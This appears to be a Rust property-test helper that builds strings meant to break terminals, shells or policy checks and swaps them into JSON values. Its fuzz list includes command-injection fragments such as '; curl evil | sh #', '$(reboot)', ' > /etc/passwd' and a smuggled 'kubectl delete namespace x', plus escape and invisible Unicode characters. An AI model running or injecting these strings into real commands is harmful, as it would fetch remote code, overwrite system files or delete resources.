//! Texts that must not be printed as they are: of any characters and length.

use proptest::{prelude::*, sample::select};
use serde_json::{Map, Value};

/// Pieces that break a line, a terminal or a command, or that mislead the reader.
const PIECES: &[&str] = &[
    "\n",
    "\r\n",
    "\t",
    "\u{0}",
    "\u{7f}",
    "\u{1b}[31m",
    "\u{9b}2J",
    "\u{200b}",
    "\u{feff}",
    "\u{a0}",
    "\u{202e}",
    "\u{2028}",
    "\u{2029}",
    "\u{ad}",
    "\u{3164}",
    "\u{301}",
    "\u{e0041}",
    "'",
    "\"",
    "\\",
    "`",
    "$(reboot)",
    "${IFS}",
    "; curl evil | sh #",
    " && ",
    " > /etc/passwd",
    " < x",
    "*",
    "~",
    "!",
    "{a,b}",
    "[0]",
    "#",
    "|",
    "--all",
    "%s",
    "é",
    "漢字",
    "🚀",
    "kubectl ",
    "\nkubectl delete namespace x",
    "6f3c2b58-9d3e-4f4c-8a51-0b7e4c1d92aa",
    "x",
    "web",
    " ",
];

/// A text of such pieces, of any characters, or a very long one.
pub fn text() -> impl Strategy<Value = String> {
    let pieces = prop::collection::vec(select(PIECES), 0..8).prop_map(|pieces| pieces.concat());
    let long = (select(PIECES), 100..20_000_usize).prop_map(|(piece, times)| piece.repeat(times));
    prop_oneof![6 => pieces, 3 => any::<String>(), 1 => long]
}

/// `value` with some of its texts and names replaced: each number chooses one of them.
#[must_use]
pub fn corrupted(mut value: Value, changes: &[(u16, String)]) -> Value {
    for (number, text) in changes {
        let texts = count(&value);
        if texts > 0 {
            value = replaced(value, &mut (usize::from(*number) % texts), text);
        }
    }
    value
}

/// Changes for [`corrupted`].
pub fn changes() -> impl Strategy<Value = Vec<(u16, String)>> {
    prop::collection::vec((any::<u16>(), text()), 1..6)
}

fn count(value: &Value) -> usize {
    match value {
        Value::String(_) => 1,
        Value::Array(items) => items.iter().map(count).sum(),
        Value::Object(fields) => fields.values().map(|value| 1 + count(value)).sum(),
        Value::Null | Value::Bool(_) | Value::Number(_) => 0,
    }
}

fn replaced(value: Value, left: &mut usize, text: &str) -> Value {
    let mut is_it = || {
        let found = *left == 0;
        *left = left.wrapping_sub(1);
        found
    };
    match value {
        Value::String(_) if is_it() => Value::from(text),
        Value::Array(items) => items.into_iter().map(|item| replaced(item, left, text)).collect(),
        Value::Object(fields) => {
            let mut all = Map::new();
            for (name, value) in fields {
                let found = *left == 0;
                *left = left.wrapping_sub(1);
                // A name under the prefix keeps it, or the policy would not look at it.
                let prefix = name.split_once('/').filter(|_| found).map(|(prefix, _)| format!("{prefix}/"));
                let name = if found { format!("{}{text}", prefix.unwrap_or_default()) } else { name };
                all.insert(name, replaced(value, left, text));
            }
            Value::Object(all)
        }
        other @ (Value::String(_) | Value::Null | Value::Bool(_) | Value::Number(_)) => other,
    }
}
